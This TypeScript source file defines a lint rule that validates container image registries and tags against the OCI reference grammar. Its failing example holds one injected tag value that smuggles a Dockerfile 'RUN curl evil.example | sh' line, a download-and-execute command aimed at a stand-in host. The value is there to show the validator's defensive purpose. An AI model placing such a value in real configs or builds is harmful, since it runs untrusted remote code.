import { DEFAULTS } from '../defaults.js';
import { quoteText } from '../quote.js';
import { defineRule } from './rule.js';

// The grammar of distribution/reference (reference.go, regexp.go), which Docker, containerd,
// Kubernetes and the OCI distribution spec share:
//   name             := [domain '/'] path-component ['/' path-component]*
//   domain           := host [':' port-number]
//   host             := domain-name | '[' IPv6address ']'
//   domain-name      := domain-component ['.' domain-component]*
//   domain-component := /([a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])/
//   path-component   := alpha-numeric [separator alpha-numeric]*
//   alpha-numeric    := /[a-z0-9]+/
//   separator        := /[_.]|__|[-]+/
//   tag              := /[\w][\w.-]{0,127}/
// and a repository name (domain and path) of at most 255 characters.
const ALPHA_NUMERIC = '[a-z0-9]+';
const SEPARATOR = '(?:[._]|__|-+)';
const PATH_COMPONENT = `${ALPHA_NUMERIC}(?:${SEPARATOR}${ALPHA_NUMERIC})*`;
const DOMAIN_COMPONENT = '(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])';
const DOMAIN_NAME = `${DOMAIN_COMPONENT}(?:\\.${DOMAIN_COMPONENT})*`;
const HOST = `(?:${DOMAIN_NAME}|\\[[a-fA-F0-9:]+\\])`;
const DOMAIN = `${HOST}(?::[0-9]+)?`;
const REPOSITORY_NAME = new RegExp(`^(?:${DOMAIN}/)?${PATH_COMPONENT}(?:/${PATH_COMPONENT})*$`);
const TAG = /^[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}$/;

/** Longest repository name (domain and path) the reference grammar accepts. */
export const MAX_REPOSITORY_NAME = 255;

/** Whether `name` is a repository name of the grammar, without its length limit. */
export function isRepositoryName(name: string): boolean {
  return REPOSITORY_NAME.test(name);
}

export function isImageTag(tag: string): boolean {
  return TAG.test(tag);
}

/** Why `registry` cannot prefix a repository name (a message id), or undefined. */
function registryProblem(registry: string): 'registryUrl' | 'registryTrailingSlash' | 'registryCapitals' | 'registryInvalid' | undefined {
  // Each service's image is <registry>/<context>: a context name is always a valid path component.
  if (isRepositoryName(`${registry}/x`)) return undefined;
  if (/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(registry)) return 'registryUrl';
  if (registry.endsWith('/')) return 'registryTrailingSlash';
  if (isRepositoryName(`${registry.toLowerCase()}/x`)) return 'registryCapitals';
  return 'registryInvalid';
}

export const rule = defineRule({
  code: 'MSA602',
  name: 'image-reference',
  severity: 'error',
  summary:
    'The image registry and tag follow the OCI reference grammar: every `<registry>/<context>:<tag>` is an image reference Docker and Kubernetes accept.',
  hint: 'Write the registry as host[:port]/path in lowercase (registry.example.gov/gov24) and the tag as letters, digits, `_`, `.` and `-` (1.4.0).',
  docs: `Each service's image is \`<registry>/<context>:<tag>\`, from \`platform.deploy.image\`: the
generated Dockerfile's build command names it, and the Helm chart's Deployments pull it. The
registry and the tag are copied into a Dockerfile line, a YAML value and a Helm template, so
they must be exactly what an image reference may hold, and nothing else.

The grammar is that of the distribution/reference package, which Docker, containerd and
Kubernetes share (and the OCI distribution spec follows):

- the registry is an optional host (a DNS name, or an IPv6 address in brackets) with an
  optional \`:port\`, then a path of components separated by \`/\`; a path component is
  lowercase letters and digits, joined by \`.\`, \`_\`, \`__\` or dashes. No scheme
  (\`https://\`), no trailing \`/\`, no spaces or control characters. With the service name
  appended, the repository name is at most 255 characters.
- the tag is 1 to 128 of letters, digits, \`_\`, \`.\` and \`-\`, not starting with \`.\` or \`-\`.`,
  messages: {
    /** `registry`, `tag`: quoted and escaped. */
    registryUrl: 'Image registry {{registry}} is a URL: an image registry is a host and a path, without a scheme',
    registryTrailingSlash: `Image registry {{registry}} ends in "/" (each service's image is <registry>/<context>)`,
    registryCapitals: 'Image registry {{registry}} has capital letters in its path: repository paths are lowercase',
    registryInvalid:
      'Image registry {{registry}} is not an OCI repository name: [host[:port]/]path, the path of lowercase letters and digits, separated by "/" and by ".", "_", "__" or "-"',
    registryTooLong: {
      text: 'Image registry {{registry}} makes the repository name of context "{{context}}" {{length}} characters long; an image reference allows at most {{limit}}',
      hint: 'Shorten the registry to at most {{max}} characters.',
    },
    invalidTag: 'Image tag {{tag}} is not a valid tag: 1 to 128 of letters, digits, "_", "." and "-", not starting with "." or "-"',
  },
  examples: {
    fails: [
      {
        yaml: `platform:
  deploy:
    image:
      registry: https://Registry.example.gov/Gov24/    # a URL, capitals in the path, a trailing /
      tag: "1.4.0\\nRUN curl evil.example | sh"         # a line break in the tag`,
      },
    ],
    passes: [
      {
        yaml: `platform:
  deploy:
    image:
      registry: registry.example.gov:5000/gov24
      tag: 1.4.0-rc.1`,
      },
    ],
  },
  check(model, report) {
    const p = model.platform;
    const { registry, tag } = p.deploy.image;
    const pointer = '/platform/deploy/image/registry';
    // Unwritten values are msa-gen's defaults: registry.local/<platform> (MSA102 checks the name) and 0.1.0.
    if (registry !== `registry.local/${p.name}`) {
      const problem = registryProblem(registry);
      if (problem !== undefined) {
        report({ pointer, messageId: problem, data: { registry: quoteText(registry) } });
      } else {
        const longest = model.contexts.reduce((a, c) => (c.name.length > a.length ? c.name : a), '');
        const length = registry.length + 1 + longest.length;
        if (length > MAX_REPOSITORY_NAME) {
          report({
            pointer,
            messageId: 'registryTooLong',
            data: { registry: quoteText(registry), context: longest, length, limit: MAX_REPOSITORY_NAME, max: MAX_REPOSITORY_NAME - 1 - longest.length },
          });
        }
      }
    }
    if (tag !== DEFAULTS.imageTag && !isImageTag(tag)) {
      report({ pointer: '/platform/deploy/image/tag', messageId: 'invalidTag', data: { tag: quoteText(tag) } });
    }
  },
});
